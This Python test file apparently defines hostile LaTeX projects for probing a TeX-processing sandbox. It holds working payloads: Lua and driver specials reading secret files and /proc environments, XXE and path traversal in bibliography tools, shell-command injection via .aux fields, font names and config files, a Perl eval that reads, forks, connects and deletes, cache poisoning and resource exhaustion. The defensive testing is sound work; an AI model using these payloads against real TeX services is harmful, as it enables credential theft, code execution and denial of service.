"""Hostile documents, each after one thing. They come from reading how the programs of the chain open files, run others
and parse."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A project that tries something."""

    tries: str
    files: Mapping[str, str | bytes]
    bites: bool = False
    """Whether it succeeds without a sandbox, with all of TeX's own switches as they are: so it is a real one."""


def tex(body: str, preamble: str = "", engine: str = "xelatex") -> str:
    return (
        f"% !TEX program = {engine}\n\\documentclass{{article}}\n{preamble}\\begin{{document}}\n"
        f"Before.\n\n{body}\n\nAfter.\n\\end{{document}}\n"
    )


def lua(code: str) -> dict[str, str | bytes]:
    """A document that runs a Lua file; `show` typesets a text letter by letter."""
    show = "local function show(s) if s then tex.print(-2, (s:gsub('[^%w]', ' '))) end end\n"
    return {"main.tex": tex("\\directlua{dofile('run.lua')}", engine="lualatex"), "run.lua": show + code}


def xdv(special: str) -> dict[str, str | bytes]:
    return {"main.tex": tex(f"\\special{{{special}}}")}


def pdftex(body: str, preamble: str = "") -> dict[str, str | bytes]:
    return {"main.tex": tex(body, preamble, engine="pdflatex")}


CYCLE = (
    b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 100000/Parent 2 0 R>>endobj\n"
    b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000052 00000 n \n"
    b"trailer<</Size 3/Root 1 0 R/Prev 125>>\nstartxref\n125\n%%EOF\n"
)
EPS = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n0 0 moveto 9 9 lineto stroke\n%%EOF\n"

READING = {
    "lua-open": Attack(
        "Lua's io.open takes any path, whatever openin_any says",
        lua("show(io.open('@SECRET@/secret.txt'):read('a'))"),
        bites=True,
    ),
    "lua-names": Attack(
        "Lua lists a folder: a file's name may be the secret",
        lua("for name in lfs.dir('@SECRET@') do show(name) end"),
        bites=True,
    ),
    "lua-environments": Attack(
        "the environment of every process that /proc shows",
        lua(
            "for pid in lfs.dir('/proc') do local f = io.open('/proc/' .. pid .. '/environ')\n"
            "if f then local s = f:read('a'); f:close(); for key in (s or ''):gmatch('_API_KEY=([%w-]+)') do show(key)"
            " end end end"
        ),
        bites=True,
    ),
    "lua-descriptors": Attack(
        "files that other processes hold open, through /proc/PID/fd and /proc/PID/root",
        lua(
            "for pid in lfs.dir('/proc') do for n = 0, 20 do\n"
            "local f = tonumber(pid) and n > 2 and io.open('/proc/' .. pid .. '/fd/' .. n)\n"
            "if f then f:close() end end\n"
            "local f = io.open('/proc/' .. pid .. '/root@SECRET@/secret.txt')\n"
            "if f then show(f:read('a')) end end"
        ),
        bites=True,
    ),
    "lua-switches-kpathsea": Attack(
        "Lua sets openin_any=a for kpathsea, then TeX reads an absolute path",
        {
            "main.tex": tex(
                "\\directlua{os.setenv('openin_any', 'a') os.setenv('TEXINPUTS', '@SECRET@//:')}\\input{secret.tex}",
                engine="lualatex",
            )
        },
    ),
    "lua-pdf-library": Attack(
        "LuaTeX's own PDF library opens a file by its path",
        lua(
            "local d = pdfe.open('@SECRET@/secret.pdf'); show(pdfe.readwholestream(pdfe.getpage(d, 1).Contents, true))"
        ),
        bites=True,
    ),
    "lua-picture": Attack(
        "LuaTeX's image library includes a picture from elsewhere",
        lua("node.write(img.node{filename='@SECRET@/secret.png'})"),
        bites=True,
    ),
    "driver-picture": Attack(
        "xdvipdfmx includes a picture by an absolute path: the engine never sees it",
        xdv("pdf:image width 5cm height 1cm (@SECRET@/secret.png)"),
        bites=True,
    ),
    "driver-page": Attack(
        "xdvipdfmx includes a page of a PDF by an absolute path",
        xdv("pdf:epdf (@SECRET@/secret.pdf)"),
        bites=True,
    ),
    "driver-font-map": Attack("xdvipdfmx reads a font map by an absolute path", xdv("pdf:mapfile @SECRET@/secret.txt")),
    "driver-stream-upwards": Attack(
        "xdvipdfmx embeds a file through ../.., and one of /proc",
        {
            "main.tex": tex(
                "\\special{pdf:fstream @one (../../../../../../../../../..@SECRET@/secret.txt)}"
                "\\special{pdf:fstream @two (/proc/self/environ)}\\special{pdf:put @resources <</A @one /B @two>>}"
            )
        },
        bites=True,
    ),
    "engine-picture": Attack(
        "XeTeX measures and names a picture by an absolute path",
        {"main.tex": tex('\\XeTeXpicfile "@SECRET@/secret.png"')},
        bites=True,
    ),
    "pdftex-dump": Attack(
        "pdfTeX prints the bytes of a file in hex: \\pdffiledump",
        pdftex("\\pdffiledump offset 0 length 60 {@SECRET@/secret.txt}"),
    ),
    "pdftex-object": Attack(
        "pdfTeX embeds a file as an object of the PDF",
        pdftex("\\immediate\\pdfobj stream file {@SECRET@/secret.txt}\\pdfrefobj\\pdflastobj"),
        bites=True,
    ),
    "pdftex-attachment": Attack(
        "a package attaches a file to the PDF",
        pdftex("x", "\\usepackage{embedfile}\\embedfile{@UP@/secret.txt}\\embedfile{@SECRET@/secret.txt}"),
    ),
    "process-files": Attack(
        "TeX reads /proc/self: the environment, the command line, the mounts",
        {
            "main.tex": tex(
                "{\\catcode0=12 \\catcode`\\_=12 \\catcode`\\%=12 \\catcode`\\#=12 \\catcode`\\&=12 \\catcode`\\$=12 "
                "\\input{/proc/self/environ}}"
            )
        },
    ),
    "graphics-path": Attack(
        "graphicx searches a folder outside",
        {
            "main.tex": tex(
                "\\includegraphics{secret}", "\\usepackage{graphicx}\\graphicspath{{@SECRET@/}{@UP@/}}\n", "pdflatex"
            )
        },
    ),
    "bibtex-upwards": Attack(
        "BibTeX reads a database through ../, written into the .aux file by hand",
        pdftex(
            "\\makeatletter\\immediate\\write\\@auxout{\\string\\bibdata{@UP@/secret}\\string\\citation{*}"
            "\\string\\bibstyle{plain}}\\nocite{*}\\InputIfFileExists{\\jobname.bbl}{}{}"
        ),
    ),
    "bibtex-aux-elsewhere": Attack(
        "BibTeX follows \\@input in an .aux file, and takes its style from elsewhere",
        pdftex(
            "\\makeatletter\\immediate\\write\\@auxout{\\string\\@input{@SECRET@/secret.tex}"
            "\\string\\bibdata{own}\\string\\bibstyle{@SECRET@/secret}}"
        ),
    ),
    "biber-absolute": Attack(
        "biber reads a database by an absolute path, and all that a pattern matches",
        {
            "main.tex": tex(
                "\\nocite{*}\\printbibliography",
                "\\usepackage{biblatex}\\addbibresource{@SECRET@/secret.bib}\\addbibresource[glob]{@SECRET@/*.bib}\n",
            )
        },
        bites=True,
    ),
    "biber-file-address": Attack(
        "biber fetches a file:// address as a remote database",
        {
            "main.tex": tex(
                "\\nocite{*}\\printbibliography",
                "\\usepackage{biblatex}\\addbibresource[location=remote]{file://@SECRET@/secret.bib}\n",
            )
        },
    ),
    "biber-entity": Attack(
        "an XML database whose external entity is a file outside",
        {
            "main.tex": tex(
                "\\nocite{*}\\printbibliography",
                "\\usepackage{biblatex}\\addbibresource[datatype=biblatexml]{own.bltxml}\n",
            ),
            "own.bltxml": '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "@SECRET@/secret.txt">]>\n'
            '<bltx:entries xmlns:bltx="http://biblatex-biber.sourceforge.net/biblatexml">'
            '<bltx:entry id="one" entrytype="misc"><bltx:title>&x;</bltx:title></bltx:entry></bltx:entries>\n',
        },
        bites=True,
    ),
    "index-style": Attack(
        "makeindex takes its style from elsewhere: the log asks for it",
        {
            "main.tex": tex(
                "\\index{word}\\typeout{runsystem(makeindex -s @SECRET@/secret.ist main.idx)}"
                "\\typeout{runsystem(makeindex -s @UP@/secret.ist main)}\\printindex",
                "\\usepackage{makeidx}\\makeindex\n",
            )
        },
    ),
    "glossary-commands": Attack(
        "makeglossaries builds shell commands from what the .aux file says",
        {
            "main.tex": tex(
                "\\gls{a}\\makeatletter\\immediate\\write\\@auxout{\\string\\@istfilename{x;touch @WATCH@/touched;.ist}"
                "\\string\\@newglossary{b}{glg}{$(touch @WATCH@/touched)}{`touch @WATCH@/touched`}"
                "\\string\\@glsorder{word|touch @WATCH@/touched}"
                "\\string\\@xdylanguage{main}{english;touch @WATCH@/touched}}\\printglossaries",
                "\\usepackage{glossaries}\\makeglossaries\\newglossaryentry{a}{name=a,description=b}\n",
            )
        },
    ),
    "root-line": Attack(
        "a `% !TEX root` line makes another user's document the main file",
        {"main.tex": "% !TEX root = @UP@/secret.tex\n" + tex("x")},
    ),
    "root-line-absolute": Attack(
        "a `% !TEX root` line with an absolute path",
        {"main.tex": "% !TEX root = @SECRET@/secret.tex\n" + tex("x")},
    ),
    "forged-recorder": Attack(
        "the recorder file names outputs outside, and the folder itself: what it names is fetched",
        lua(
            "local up = string.rep('../', 12); luatexbase.add_to_callback('wrapup_run', function()\n"
            "local f = io.open('main.fls', 'w')\n"
            "f:write('PWD /session\\nOUTPUT .\\nOUTPUT ..\\nOUTPUT /etc/passwd\\n',\n"
            "'OUTPUT ' .. up .. '@SECRET@/secret.txt\\nOUTPUT a/../../..@SECRET@/secret.tex\\n',\n"
            "'OUTPUT @SECRET@/secret.bib\\n')\n"
            "f:close() end, 'forged')"
        ),
    ),
    "linked-outputs": Attack(
        "outputs that are links: what they lead to must not come back, nor be written",
        lua(
            "os.remove('main.log'); lfs.link('@SECRET@/secret.txt', 'main.bbl', true)\n"
            "lfs.link('@SECRET@/secret.txt', 'main.ind', true); lfs.link('@WATCH@/new', 'main.toc', true)\n"
            "lfs.link('@SECRET@', 'folder', true)\n"
            "luatexbase.add_to_callback('wrapup_run', function() os.remove('main.log')\n"
            "lfs.link('@SECRET@/secret.txt', 'main.log', true) end, 'links')"
        ),
    ),
}

WRITING = {
    "lua-write": Attack(
        "Lua writes, makes folders, renames and links anywhere",
        lua(
            "local f = io.open('@WATCH@/new', 'w'); if f then f:write('x'); f:close() end\n"
            "lfs.mkdir('@WATCH@/folder'); os.rename('main.aux', '@WATCH@/moved')\n"
            "lfs.link('@SECRET@', '@WATCH@/link', true); os.remove('@SECRET@/secret.txt')"
        ),
        bites=True,
    ),
    "lua-touch": Attack(
        "Lua sets the dates of a file that it can neither read nor write",
        lua("lfs.touch('@SECRET@/secret.txt', 1000000000, 1000000000)"),
        bites=True,
    ),
    "lua-write-upwards": Attack(
        "the same through the session's own folders, and into those of the next pass",
        lua(
            "for n = 1, 12 do local f = io.open(string.rep('../', n) .. '@WATCH@/new' .. n, 'w')\n"
            "if f then f:write('x'); f:close() end end\n"
            "os.rename('../project', '../stolen'); os.rename('../' .. lfs.currentdir():match('[^/]+$'), '../moved')"
        ),
        bites=True,
    ),
    "temporary-files": Attack(
        "files and folders in the places for temporary ones, to be found by another session",
        lua(
            "for _, place in ipairs{'/tmp', '/var/tmp', '/dev/shm', os.getenv('TMPDIR') or '/tmp', '@HOME@'} do\n"
            "local f = io.open(place .. '/texrepair-attack', 'w'); if f then f:write('x'); f:close() end end\n"
            "local f = io.open('/dev/shm/texrepair-attack') or io.open('/var/tmp/texrepair-attack')\n"
            "if f then error('outside') end\n"
            "os.rename('run.lua', '@HOME@/run.lua')"
        ),
        bites=True,
    ),
    "font-cache": Attack(
        "luaotfload's cache is Lua code: a poisoned one would run in the next person's build",
        lua(
            "local function poison(folder) lfs.mkdir(folder)\n"
            "local f = io.open(folder .. '/luaotfload-lookup-cache.lua', 'w')\n"
            "if f then f:write('texio.write_nl(\"POISONED\")'); f:close() end end\n"
            "local roots = {kpse.var_value('TEXMFVAR'), kpse.var_value('TEXMFSYSVAR'), kpse.var_value('TEXMFHOME'),\n"
            "'@HOME@/.texlive2022/texmf-var', '@HOME@/.cache/texrepair'}\n"
            "for _, root in ipairs(roots) do\n"
            "lfs.mkdir(root); lfs.mkdir(root .. '/luatex-cache'); lfs.mkdir(root .. '/luatex-cache/generic')\n"
            "poison(root .. '/luatex-cache/generic/names'); poison(root) end"
        ),
    ),
    "deep-folders": Attack(
        "a tree of folders too deep for a path, in the way of whoever cleans up",
        lua("for n = 1, 3000 do lfs.mkdir('dddddddd'); if not lfs.chdir('dddddddd') then break end end lfs.chdir('/')"),
    ),
    "many-files": Attack(
        "files without number, empty and small",
        lua(
            "for n = 1, 100000 do local f = io.open('f' .. n, 'w'); if not f then break end f:write('x') f:close() end"
        ),
    ),
    "sparse-file": Attack(
        "a file of a terabyte that holds nothing, with the name of the PDF and of the log",
        lua("local f = io.open('main.toc', 'w'); f:seek('set', 2^40); f:write('x'); f:close()"),
    ),
    "forged-recorder-flood": Attack(
        "a recorder file of many million lines",
        lua(
            "luatexbase.add_to_callback('wrapup_run', function() local f = io.open('main.fls', 'w')\n"
            "for n = 1, 1500000 do f:write('OUTPUT file', n, '.aux\\n') end f:close() end, 'flood')"
        ),
    ),
    "forged-log": Attack(
        "a log that names the user's files as if they were broken, with escape sequences",
        lua(
            "luatexbase.add_to_callback('wrapup_run', function() local f = io.open('main.log', 'w')\n"
            "f:write('This is LuaHBTeX\\n(./main.tex\\n! LaTeX Error: File `@SECRET@/secret.tex\\' not found.\\n\\n',\n"
            "'\\27]0;owned\\7\\27[2J l.5 \\226\\128\\174x\\n@HOME@/.ssh/id:1: Undefined control sequence.\\n',\n"
            "'l.1 \\\\oops\\n')\n"
            "f:close() end, 'forged')"
        ),
    ),
}

RUNNING = {
    "lua-programs": Attack(
        "every way in which Lua starts a program",
        lua(
            "pcall(os.execute, 'touch @WATCH@/one'); pcall(function() io.popen('touch @WATCH@/two'):close() end)\n"
            "pcall(os.spawn, {'touch', '@WATCH@/three'}); pcall(io.popen, 'touch @WATCH@/four', 'w')\n"
            "pcall(os.exec, {'touch', '@WATCH@/five'})"
        ),
    ),
    "lua-libraries": Attack(
        "Lua loads the C library and calls system()",
        lua(
            "local places = {'/lib/x86_64-linux-gnu/libc.so.6', '/lib/aarch64-linux-gnu/libc.so.6', 'libc.so.6'}\n"
            "for _, path in ipairs(places) do\n"
            "local ok, f = pcall(package.loadlib, path, 'system')\n"
            "if ok and f then pcall(f, 'touch @WATCH@/loaded') end end\n"
            "local ok, ffi = pcall(require, 'ffi'); if ok then ffi.cdef('int system(const char *);')\n"
            "ffi.C.system('touch @WATCH@/called') end"
        ),
    ),
    "lua-network": Attack(
        "LuaTeX brings a socket library",
        lua(
            "local ok, socket = pcall(require, 'socket'); if not ok then socket = package.loaded['socket.core'] end\n"
            "if socket then local c = socket.tcp(); c:connect('127.0.0.1', @PORT@); c:send('hello') c:close() end"
        ),
    ),
    "driver-command": Attack(
        "xdvipdfmx takes a command for EPS pictures from its configuration, which a special may change",
        {
            "main.tex": tex(
                '\\special{dvipdfmx:config D "touch @WATCH@/configured; false"}\\special{pdf:image (p.eps)}'
                "\\special{psfile=p.eps llx=0 lly=0 urx=9 ury=9}"
            ),
            "p.eps": EPS,
        },
    ),
    "driver-configuration": Attack(
        "the project brings a configuration file of xdvipdfmx, and one of pdfTeX",
        {
            "main.tex": tex("\\special{psfile=p.eps llx=0 lly=0 urx=9 ury=9}"),
            "p.eps": EPS,
            "dvipdfmx.cfg": 'D "touch @WATCH@/configured; false"\n',
            "xdvipdfmx.cfg": 'D "touch @WATCH@/configured; false"\n',
            "pdftexconfig.tex": "\\immediate\\write18{touch @WATCH@/configured}\n",
        },
    ),
    "own-configuration": Attack(
        "configuration of every program of the chain lies in the project",
        {
            "main.tex": tex("\\nocite{*}\\printbibliography", "\\usepackage{biblatex}\\addbibresource{own.bib}\n"),
            "own.bib": "@misc{a, title={B}, year=2020}\n",
            "biber.conf": "<config><output_file>@WATCH@/written</output_file><logfile>@WATCH@/log</logfile></config>\n",
            ".biber.conf": "<config><output_file>@WATCH@/written</output_file></config>\n",
            "texmf.cnf": "shell_escape = t\nopenin_any = a\nopenout_any = a\n",
            "fonts.conf": "<fontconfig><dir>@SECRET@</dir><cachedir>@WATCH@</cachedir></fontconfig>\n",
            ".latexmkrc": "system('touch @WATCH@/ran');\n",
            "latexmkrc": "system('touch @WATCH@/ran');\n",
            "Makefile": "all:\n\ttouch @WATCH@/ran\n",
        },
    ),
    "own-modules": Attack(
        "Python and Perl modules in the current folder, under names that texrepair and its tools import",
        {
            "main.tex": tex("\\nocite{*}\\printbibliography", "\\usepackage{biblatex}\\addbibresource{own.bib}\n"),
            "own.bib": "@misc{a, title={B}, year=2020}\n",
            **{
                f"{name}.py": "open('@WATCH@/imported', 'w')\n"
                for name in (
                    "json",
                    "struct",
                    "sitecustomize",
                    "usercustomize",
                    "jinja2",
                    "httpx",
                    "texrepair/__init__",
                )
            },
            "sanitizers/own.py": "open('@WATCH@/imported', 'w')\n",
            "Encode.pm": "system('touch @WATCH@/imported'); 1;\n",
            "Biber.pm": "system('touch @WATCH@/imported'); 1;\n",
        },
    ),
    "first-line": Attack(
        "the first line names a format and switches",
        {"main.tex": "%&pdflatex -shell-escape -output-directory=@WATCH@\n" + tex("\\write18{touch @WATCH@/ran}x")},
    ),
    "program-line": Attack(
        "`% !TEX program` names a command",
        {"main.tex": tex("x").replace("= xelatex", "= sh -c 'touch @WATCH@/ran'\n% !TeX TS-program = @WATCH@/x")},
    ),
    "font-names": Attack(
        "a font that is not there has a name that a script would run",
        {
            "main.tex": tex(
                "{\\catcode`\\$=12 \\font\\x=$(touch @WATCH@/ran) \\x a}"
                "{\\catcode`\\`=12 \\font\\x=`touch @WATCH@/ran` \\x a}",
                engine="pdflatex",
            )
        },
    ),
    "biber-replacement": Attack(
        "biber evaluates the replacement of a source map as Perl: it reads, runs, connects and stays behind",
        {
            "main.tex": tex(
                "\\nocite{*}\\printbibliography",
                "\\usepackage{biblatex}\\addbibresource{own.bib}\n\\DeclareSourcemap{\\maps[datatype=bibtex]{\\map{"
                "\\step[fieldsource=title,match=\\regexp{T(.*)},replace=\\regexp{@{[do(q(./run.txt))]}}]}}}\n",
            ),
            "own.bib": "@misc{a, title={Title}, year=2020}\n",
            "run.txt": "system('touch @WATCH@/ran; setsid sleep 60 >/dev/null 2>&1 &');\n"
            "if (!fork) { $SIG{$_} = 'IGNORE' for keys %SIG; setpgrp; exit if fork; sleep 60; exit }\n"
            "my $read = '';\n"
            "for ('@SECRET@/secret.txt', glob('/proc/*/environ')) {\n"
            "if (open my $file, '<', $_) { local $/; $read .= <$file> // '' } }\n"
            "eval { require IO::Socket::INET; IO::Socket::INET->new('127.0.0.1:@PORT@') };\n"
            "unlink '@SECRET@/secret.txt'; $read =~ s/[^A-Za-z0-9]/ /g; $read\n",
        },
        bites=True,
    ),
    "metafont-source": Attack(
        "a font of the project has a Metafont source, which would be run to make its bitmaps",
        {
            "main.tex": tex("\\font\\x=own \\x A", engine="pdflatex"),
            "own.tfm": bytes.fromhex(  # the letter A of a font of ten points (tex.web, section 540)
                "000e0002004100410002000100010001" + "00" * 12 + "00a0000001000000" + "0000000000080000" + "00" * 12
            ),
            "own.mf": 'forever: message "x"; endfor\n',
        },
    ),
    "shell-in-packages": Attack(
        "packages that run programs: minted, gnuplot, svg, imakeidx",
        {
            "main.tex": tex(
                "\\index{a}\\printindex",
                "\\usepackage{imakeidx}\\makeindex[program=touch,options=@WATCH@/ran]\\usepackage{epstopdf}\n"
                "\\DeclareGraphicsRule{.x}{pdf}{.pdf}{`touch @WATCH@/ran}\n",
                "pdflatex",
            )
        },
    ),
}

SPENDING = {
    "memory-of-many": Attack(
        "memory that is held in many strings, and kept when one allocation fails",
        lua(
            "local kept = {} for n = 1, 1000 do\n"
            "local ok, s = pcall(string.rep, tostring(n), 4000000) kept[n] = ok and s end"
        ),
    ),
    "output-of-lua": Attack(
        "endless output by Lua, past TeX's own files",
        lua("while true do io.stdout:write(string.rep('x', 65536)) end"),
    ),
    "files-without-a-name": Attack(
        "files that are written after their names are gone: no folder shows them",
        lua(
            "local kept = {} for n = 1, 30 do local f = io.open('f' .. n, 'w'); os.remove('f' .. n); kept[n] = f\n"
            "for _ = 1, 50 do f:write(string.rep('x', 1000000)) end f:flush() end"
        ),
    ),
    "page-tree-of-itself": Attack(
        "a picture whose page tree is its own child, and whose table of objects is its own predecessor",
        {"main.tex": tex("\\includegraphics{p}", "\\usepackage{graphicx}\n"), "p.pdf": CYCLE},
    ),
    "bibtex-loop": Attack(
        "a bibliography style that never ends",
        {
            "main.tex": tex("\\cite{a}\\bibliographystyle{own}\\bibliography{own}", engine="pdflatex"),
            "own.bib": "@misc{a, title={B}}\n",
            "own.bst": "ENTRY {title} {} {}\nFUNCTION {misc} {}\nREAD\nINTEGERS {n}\n"
            "FUNCTION {go} { {#1} {#1 'n :=} while$ }\n"
            "EXECUTE {go}\n",
        },
    ),
}

ATTACKS = {**READING, **WRITING, **RUNNING, **SPENDING}
